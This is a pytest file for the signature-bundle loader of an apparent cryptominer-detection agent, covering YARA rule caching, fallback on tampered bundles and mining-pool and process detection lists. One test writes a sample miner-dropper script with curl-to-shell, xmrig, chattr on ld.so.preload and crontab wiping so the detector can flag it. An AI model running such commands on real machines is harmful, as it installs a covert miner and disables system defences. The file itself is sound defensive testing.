"""Bundle loading: shipped default valid, manifest fresh, corrupt bundles rejected with a
clear problem and a fallback, compiled-rule cache reused, packed form, own files."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from agent.bundle import files as F
from agent.bundle import install_bundle, is_own_path, load_bundle, own_paths, rules
from agent.bundle.loader import build_bundle, builtin_location
from tests.agent.test_rules_samples import executable, memory_image

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = ROOT / "signatures"


def _copy_bundle(target: Path) -> Path:
    shutil.copytree(
        SHIPPED, target, ignore=shutil.ignore_patterns("__pycache__", "*.py", "packed.bin")
    )
    return target


def _rehash(folder: Path, version: str) -> None:
    F.write_manifest(folder, version)


def test_shipped_manifest_is_fresh() -> None:
    """Fails when a bundle file changed without `python build/sign_bundle.py`."""
    manifest = F.verify_manifest(F.read_folder(SHIPPED))
    on_disk = {
        p.relative_to(SHIPPED).as_posix()
        for p in SHIPPED.rglob("*")
        if p.is_file()
        and p.suffix in F.BUNDLE_SUFFIXES
        and p.name != "manifest.json"
        and "__pycache__" not in p.parts
    }
    assert set(manifest.files) == on_disk


def test_shipped_bundle_loads(tmp_path: Path) -> None:
    b = load_bundle(tmp_path)
    assert b.problems == []
    assert (
        b.source == "builtin"
        and b.version == json.loads((SHIPPED / "manifest.json").read_text())["version"]
    )
    counts = b.counts()
    assert counts["pool_domains"] >= 300 and counts["file_rules"] >= 10
    assert counts["memory_rules"] >= 10 and counts["mining_ports"] >= 10
    assert "stratum+tcp" in b.stratum_schemes
    assert b.pool_domains.match("eu.ss.btc.com").value == "btc.com" or b.pool_domains.match(
        "eu.ss.btc.com"
    ).value.endswith("btc.com")
    assert b.pool_domains.match("viabtc.com").value == "viabtc.com"
    assert b.pool_domains.match("www.notviabtc.com") is None
    assert b.miner_process_names["xmrig.exe"].family == "xmrig"
    assert b.miner_process_names["xmrig"].family == "xmrig"
    assert "miner.exe" not in b.miner_process_names
    assert any(d.lower().endswith("system32") for d in b.system_binaries["svchost.exe"])
    assert "/usr/sbin" in b.system_binaries["sshd"]
    assert b.benign_heavy["ffmpeg"].tag == "video-encoder"
    meta = b.rule_meta("minecheck_mem_xmrig")
    assert meta["scope"] == "memory" and meta["family"] == "xmrig"
    assert b.rule_meta("no_such_rule") == {}
    assert {m.rule for m in b.file_rules.match(data=executable("xmrig"))} >= {
        "minecheck_file_xmrig"
    }
    assert {m.rule for m in b.memory_rules.match(data=memory_image("xmrig"))} >= {
        "minecheck_mem_xmrig"
    }


def test_second_load_uses_the_compiled_cache(tmp_path: Path) -> None:
    rules.clear_memory_cache()
    before = rules.compile_calls
    first = load_bundle(tmp_path)
    compiled_once = rules.compile_calls
    assert compiled_once - before in (0, 2)  # 0 when another test already filled the cache
    cached = sorted((tmp_path / "cache" / "yara").glob("*.yarc"))
    if compiled_once - before == 2:
        assert len(cached) == 2
    rules.clear_memory_cache()  # a new process: only the disk cache is left
    second = load_bundle(tmp_path)
    assert rules.compile_calls == compiled_once
    assert second.rules_sha256 == first.rules_sha256
    assert second.file_rules.match(data=executable("xmrig"))


def test_cache_compiles_once_per_content(tmp_path: Path) -> None:
    rules.clear_memory_cache()
    folder = _copy_bundle(tmp_path / "b")
    extra = folder / "yara" / "file" / "extra.yar"
    extra.write_text(
        'rule minecheck_test_extra { meta: family = "t" kind = "generic" severity = "low" '
        'scope = "file" description_zh = "测试" description_en = "test" '
        'strings: $a = "unique-test-string-42" condition: $a }'
    )
    _rehash(folder, "2099.1.1.1")
    build_bundle(F.read_folder(SHIPPED), "t", tmp_path / "cache")
    before = rules.compile_calls
    build_bundle(F.read_folder(folder), "t", tmp_path / "cache")
    assert rules.compile_calls == before + 1  # only the changed scope compiled
    rules.clear_memory_cache()
    build_bundle(F.read_folder(folder), "t", tmp_path / "cache")
    assert rules.compile_calls == before + 1


def test_corrupt_cache_file_is_recompiled(tmp_path: Path) -> None:
    rules.clear_memory_cache()
    load_bundle(tmp_path)
    for path in (tmp_path / "cache" / "yara").glob("*.yarc"):
        path.write_bytes(b"garbage")
    rules.clear_memory_cache()
    b = load_bundle(tmp_path)
    assert b.problems == [] and b.file_rules.match(data=executable("xmrig"))


def _install_current(home: Path, mutate) -> Path:
    current = home / "signatures" / "current"
    _copy_bundle(current)
    _rehash(current, "2099.1.1.1")
    mutate(current)
    return current


def test_newer_collector_bundle_is_used_and_remembered(tmp_path: Path) -> None:
    _install_current(tmp_path, lambda c: None)
    b = load_bundle(tmp_path)
    assert b.source == "collector" and b.version == "2099.1.1.1" and b.problems == []
    assert (tmp_path / "signatures" / "last_good" / "manifest.json").is_file()


def test_older_collector_bundle_loses_to_the_shipped_one(tmp_path: Path) -> None:
    current = tmp_path / "signatures" / "current"
    _copy_bundle(current)
    _rehash(current, "2000.1.1.1")
    b = load_bundle(tmp_path)
    assert b.source == "builtin"


@pytest.mark.parametrize(
    ("damage", "expect"),
    [
        (lambda c: (c / "pools" / "domains.txt").write_text("tampered\tx\ty\n"), "sha256"),
        (lambda c: (c / "manifest.json").write_text("{not json"), "not valid JSON"),
        (lambda c: (c / "yara" / "memory" / "xmrig.yar").unlink(), "missing"),
        (
            lambda c: _write_and_rehash(c, "yara/file/broken.yar", "rule broken { condition: }"),
            "does not compile",
        ),
        (
            lambda c: _write_and_rehash(
                c, "pools/domains.txt", "good.example.com\tx\ty\nbad line\n"
            ),
            "domains.txt:2",
        ),
        (
            lambda c: _write_and_rehash(
                c,
                "yara/memory/bad.yar",
                'rule minecheck_bad { meta: family = "f" kind = "generic" severity = "low" '
                'scope = "memory" description_zh = "z" description_en = "e" '
                'strings: $a = "x1234" condition: $a and filesize < 1MB }',
            ),
            "filesize",
        ),
        (
            lambda c: _write_and_rehash(
                c, "yara/file/nometa.yar", "rule minecheck_nometa { condition: false }"
            ),
            "meta",
        ),
    ],
)
def test_bad_collector_bundle_falls_back_with_a_clear_problem(
    tmp_path: Path, damage, expect: str
) -> None:
    _install_current(tmp_path, damage)
    b = load_bundle(tmp_path)
    assert b.source == "builtin"
    assert len(b.problems) == 1
    assert expect in b.problems[0].en and "current" in b.problems[0].en
    assert "未使用" in b.problems[0].zh
    assert b.file_rules.match(data=executable("xmrig"))


def _write_and_rehash(folder: Path, rel: str, text: str) -> None:
    (folder / rel).write_text(text, encoding="utf-8")
    _rehash(folder, "2099.1.1.1")


def test_bad_current_falls_back_to_last_good(tmp_path: Path) -> None:
    _install_current(tmp_path, lambda c: None)
    assert load_bundle(tmp_path).source == "collector"
    (tmp_path / "signatures" / "current" / "pools" / "ports.txt").write_text("garbage")
    b = load_bundle(tmp_path)
    assert b.source == "last_good" and b.version == "2099.1.1.1"
    assert "ports.txt" in b.problems[0].en


def test_bad_builtin_yields_empty_rules_and_a_problem(tmp_path: Path) -> None:
    broken = _copy_bundle(tmp_path / "builtin")
    (broken / "manifest.json").unlink()
    b = load_bundle(tmp_path / "home", builtin=broken)
    assert b.source == "none" and b.problems and "manifest.json" in b.problems[0].en
    assert b.file_rules.match(data=executable("xmrig")) == []


def test_install_bundle_validates_before_writing(tmp_path: Path) -> None:
    good = F.read_folder(_copy_bundle(tmp_path / "src"))
    manifest = F.build_manifest(good.files, "2099.2.2.2")
    files = {**good.files, "manifest.json": F.manifest_bytes(manifest)}
    loaded = install_bundle(files, tmp_path / "home")
    assert loaded.version == "2099.2.2.2"
    assert load_bundle(tmp_path / "home").version == "2099.2.2.2"
    bad = dict(files)
    bad["pools/ports.txt"] = b"tampered"
    with pytest.raises(F.BundleError):
        install_bundle(bad, tmp_path / "home")
    assert load_bundle(tmp_path / "home").version == "2099.2.2.2"


def test_packed_form_round_trips_and_hides_plain_strings(tmp_path: Path) -> None:
    bundle = F.read_folder(SHIPPED)
    blob = F.pack(bundle.files)
    assert b"donate-level" not in blob and b"stratum+tcp" not in blob and b"xmrig" not in blob
    assert F.unpack(blob).files == bundle.files
    folder = tmp_path / "exe-bundle"
    folder.mkdir()
    (folder / "packed.bin").write_bytes(blob)
    b = load_bundle(tmp_path / "home", builtin=folder)
    assert b.problems == [] and b.version == json.loads(bundle.files["manifest.json"])["version"]
    assert b.memory_rules.match(data=memory_image("xmrig"))
    (folder / "packed.bin").write_bytes(blob[:-50])
    b = load_bundle(tmp_path / "home2", builtin=folder)
    assert b.source == "none" and "damaged" in b.problems[0].en


def test_pack_script_writes_a_loadable_file(tmp_path: Path, python_exe: str) -> None:
    import subprocess

    out = tmp_path / "packed.bin"
    subprocess.run(
        [python_exe, str(ROOT / "build" / "pack_signatures.py"), "--out", str(out)],
        check=True,
        capture_output=True,
    )
    assert F.unpack(out.read_bytes()).files == F.read_folder(SHIPPED).files


def test_own_paths_cover_bundle_and_cache(tmp_path: Path) -> None:
    _install_current(tmp_path, lambda c: None)
    load_bundle(tmp_path)
    paths = own_paths(tmp_path)
    assert (builtin_location() / "yara" / "file" / "xmrig.yar").resolve() in paths
    assert any(p.suffix == ".yarc" for p in paths)
    assert is_own_path(tmp_path / "signatures" / "current" / "manifest.json", tmp_path)
    assert not is_own_path(tmp_path / "elsewhere.bin", tmp_path)


def test_header_prefilter_skips_files_no_rule_can_match(tmp_path: Path) -> None:
    b = load_bundle(tmp_path / "home")
    assert b.file_header_filter is not None
    miner = tmp_path / "miner.bin"
    miner.write_bytes(executable("xmrig", "mz"))
    text = tmp_path / "notes.txt"
    text.write_bytes(executable("xmrig")[4:])  # the strings without a header
    script = tmp_path / "drop.sh"
    script.write_text(
        "#!/bin/sh\ncurl x | sh; xmrig --donate-level 1 stratum+tcp://a:1\n"
        "chattr +i /etc/ld.so.preload; crontab -r; pkill -f kworker\n"
    )
    assert {m.rule for m in b.match_file(miner)} >= {"minecheck_file_xmrig"}
    assert b.match_file(text) == []
    assert {m.rule for m in b.match_file(script)} == {"minecheck_file_miner_dropper_script"}
    with pytest.raises(OSError):
        b.match_file(tmp_path / "missing")


def test_header_prefilter_is_off_when_a_rule_is_not_anchored() -> None:
    from agent.bundle.rules import header_filter

    anchored = 'rule a { strings: $x = "x1" condition: uint16(0) == 0x5A4D and $x }'
    loose = 'rule b { strings: $x = "x2" condition: $x and uint16(0) == 0x5A4D }'
    f = header_filter({"a": anchored})
    assert f is not None and f.may_match(b"MZ\x90\x00") and not f.may_match(b"\x7fELF")
    assert header_filter({"a": anchored, "b": loose}) is None
